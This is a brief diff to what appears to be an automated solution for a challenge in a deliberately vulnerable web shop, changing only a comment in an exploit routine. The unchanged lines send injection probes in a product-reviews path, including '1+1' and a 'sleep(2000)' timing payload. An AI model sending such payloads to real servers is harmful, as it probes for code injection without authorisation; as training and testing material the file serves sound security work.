@@ -6,7 +6,7 @@ const reviewsOf = (id: string) => (attacker: Attacker) =>
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // A shop that does sums in its paths evaluates what stands there.
+    // A calculated product number shows that the server evaluates the path.
     await reviewsOf('1')(attacker)
     await reviewsOf('1+1')(attacker)
     await attacker.get('/rest/products/sleep(2000)/reviews')
